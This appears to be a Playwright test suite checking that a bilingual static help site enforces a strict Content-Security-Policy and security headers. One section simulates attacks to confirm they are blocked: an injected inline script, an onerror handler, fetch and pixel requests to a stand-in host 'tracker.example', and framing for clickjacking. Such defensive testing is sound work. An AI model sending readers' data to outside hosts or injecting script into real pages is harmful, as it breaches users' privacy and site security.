/**
 * The Content-Security-Policy is strict and the pages still work under it: no page trips it, the
 * help filters (a module from enhance/) still apply, and what an attacker would try (an injected
 * script, a request to another site, framing the page) is refused. serve.json sends the same
 * headers as out/_headers, so both the header policy and each page's <meta> policy are enforced.
 */
import { readFileSync } from 'node:fs';
import { expect, type Page, test } from '@playwright/test';
import { loadContent } from '../../lib/content/load';
import { securityHeaders } from '../../scripts/lib/security-headers';
import { htmlFiles, OUT } from './support/exported-site';

// The policy must also hold for what the service worker fetches: let it install (playwright.config.ts blocks it elsewhere).
test.use({ serviceWorkers: 'allow' });

const { content } = loadContent();
const topic = content.topics[0].id;
const region = content.regions.find((candidate) => candidate.parent)!.id;
const samples = (locale: string) => [
  ['home', `/${locale}/`],
  ['rights topic', `/${locale}/rights/${topic}/`],
  ['help directory', `/${locale}/help/`],
  ['help for a region', `/${locale}/help/${region}/`],
  ['card for the agent', `/${locale}/card/`],
  ['about', `/${locale}/about/`],
];

type Watch = { problems: string[] };

/** Records every policy complaint a reader's browser would make, from the console and from the page. */
async function watchPolicy(page: Page): Promise<Watch> {
  const watch: Watch = { problems: [] };
  await page.addInitScript(() => {
    const seen: string[] = [];
    Object.defineProperty(window, '__policyViolations', { value: seen });
    document.addEventListener('securitypolicyviolation', (event) => seen.push(`${event.effectiveDirective} blocked ${event.blockedURI || 'inline code'}`));
  });
  page.on('console', (message) => {
    if (/content.security.policy|permissions.policy/i.test(message.text())) watch.problems.push(`console: ${message.text()}`);
  });
  page.on('pageerror', (error) => watch.problems.push(`script error: ${error.message}`));
  return watch;
}

const violations = (page: Page) => page.evaluate(() => (window as unknown as { __policyViolations: string[] }).__policyViolations);

/** Whether every behaviour the page renders a data-module for has run (enhance/lib/attach.ts marks it). */
const enhanced = (page: Page) =>
  page
    .waitForFunction(() => [...document.querySelectorAll('[data-module]')].every((element) => element.hasAttribute('data-module-ready')), null, {
      timeout: 15_000,
    })
    .then(
      () => true,
      () => false,
    );

test.describe('every page runs under a strict Content-Security-Policy', () => {
  for (const locale of ['en', 'ar']) {
    for (const [kind, address] of samples(locale)) {
      test(`the ${kind} page in ${locale} loads and runs its modules with no policy violation`, async ({ page }) => {
        const watch = await watchPolicy(page);
        await page.goto(address);
        const tookOver = await enhanced(page);
        await page.waitForLoadState('networkidle');
        expect([...watch.problems, ...(await violations(page))]).toEqual([]);
        expect(tookOver, "the page's modules ran").toBe(true);
      });
    }

    test(`in ${locale}, the help filters still apply under the policy`, async ({ page }) => {
      const watch = await watchPolicy(page);
      await page.goto(`/${locale}/help/`);
      const panel = page.locator('section[aria-labelledby="filters"]');
      // The panel appears once its module has run, which can take a while on a slow machine.
      await expect(panel).toBeVisible({ timeout: 15_000 });
      await panel.locator('select').first().selectOption('consulate');
      await expect(page).toHaveURL(/\?kind=consulate$/);
      await expect(page.locator('[data-directory] li:not([hidden]) > article')).toHaveCount(
        content.contacts.filter((contact) => contact.kind === 'consulate').length,
      );
      expect([...watch.problems, ...(await violations(page))]).toEqual([]);
    });
  }

  test('the language chooser at / loads and runs its modules with no policy violation', async ({ page }) => {
    const watch = await watchPolicy(page);
    await page.goto('/');
    const tookOver = await enhanced(page);
    await page.waitForLoadState('networkidle');
    expect([...watch.problems, ...(await violations(page))]).toEqual([]);
    expect(tookOver, "the page's modules ran").toBe(true);
  });

  test('the not-found page loads and runs its modules with no policy violation', async ({ page }) => {
    const watch = await watchPolicy(page);
    const response = await page.goto('/en/no-such-page/');
    expect(response?.status()).toBe(404);
    const tookOver = await enhanced(page);
    await page.waitForLoadState('networkidle');
    expect([...watch.problems, ...(await violations(page))]).toEqual([]);
    expect(tookOver, "the page's modules ran").toBe(true);
  });
});

test.describe('what an attacker would try is refused', () => {
  test('a script injected into a page does not run', async ({ page }) => {
    await watchPolicy(page);
    await page.goto('/en/help/');
    expect(await enhanced(page)).toBe(true);
    const ran = await page.evaluate(async () => {
      const script = document.createElement('script');
      script.textContent = 'window.__injected = true';
      document.body.append(script);
      const handler = document.createElement('img');
      handler.setAttribute('onerror', 'window.__injected = true');
      handler.src = '/no-such-image.png';
      document.body.append(handler);
      await new Promise((resolve) => setTimeout(resolve, 300));
      return 'injected' in window;
    });
    expect(ran).toBe(false);
    expect(await violations(page)).toEqual(
      expect.arrayContaining([expect.stringMatching(/^script-src-elem blocked inline/), expect.stringMatching(/^script-src-attr blocked inline/)]),
    );
  });

  test("a page cannot send the reader's data to another site", async ({ page, baseURL }) => {
    await watchPolicy(page);
    // The browser announces a blocked request and then fails it: what matters is that none is answered.
    const leaks: string[] = [];
    page.on('requestfinished', (request) => {
      if (new URL(request.url()).origin !== new URL(baseURL!).origin) leaks.push(request.url());
    });
    await page.goto('/en/');
    const fetched = await page.evaluate(() =>
      fetch('https://tracker.example/collect').then(
        () => 'sent',
        () => 'refused',
      ),
    );
    await page.evaluate(() => {
      new Image().src = 'https://tracker.example/pixel.gif';
    });
    await expect
      .poll(() => violations(page))
      .toEqual(expect.arrayContaining(['connect-src blocked https://tracker.example/collect', 'img-src blocked https://tracker.example/pixel.gif']));
    expect(fetched).toBe('refused');
    expect(leaks).toEqual([]);
  });

  test('another site cannot show a page inside a frame (clickjacking)', async ({ page, baseURL }) => {
    const refusals: string[] = [];
    page.on('console', (message) => {
      if (/frame-ancestors|X-Frame-Options/.test(message.text())) refusals.push(message.text());
    });
    await page.setContent(`<iframe src="${baseURL}/en/card/" title="framed"></iframe>`);
    await expect.poll(() => refusals.length).toBeGreaterThan(0);
    await expect(page.frameLocator('iframe').getByRole('heading')).toHaveCount(0);
  });
});

test.describe('every response carries the security headers', () => {
  for (const address of ['/', '/en/help/', '/no-such-page/', '/vcard/' + content.contacts[0].id + '.vcf']) {
    test(`${address} is sent with them`, async ({ request }) => {
      const response = await request.get(address);
      const headers = response.headers();
      for (const [name, value] of Object.entries(securityHeaders)) expect(headers[name.toLowerCase()], name).toBe(value);
      expect(headers['content-security-policy']).toContain("frame-ancestors 'none'");
    });
  }
});

test.describe('every exported page carries its own policy', () => {
  test("each HTML file in out/ has a <meta> policy that comes first and allows scripts only from this site's files", () => {
    const wrong: string[] = [];
    for (const file of htmlFiles()) {
      const html = readFileSync(file, 'utf8');
      const meta = /<meta http-equiv="Content-Security-Policy" content="([^"]*)"/.exec(html);
      const name = file.slice(OUT.length);
      if (!meta) {
        wrong.push(`${name}: no <meta> policy`);
        continue;
      }
      if (html.search(/<script\b/i) >= 0 && html.search(/<script\b/i) < meta.index) wrong.push(`${name}: a script comes before the policy`);
      if (!meta[1].includes("script-src 'self';")) wrong.push(`${name}: the policy allows scripts other than this site's files`);
      if (/'unsafe-inline'|'unsafe-eval'/.test(meta[1])) wrong.push(`${name}: the policy allows unsafe code`);
    }
    expect(wrong).toEqual([]);
  });
});
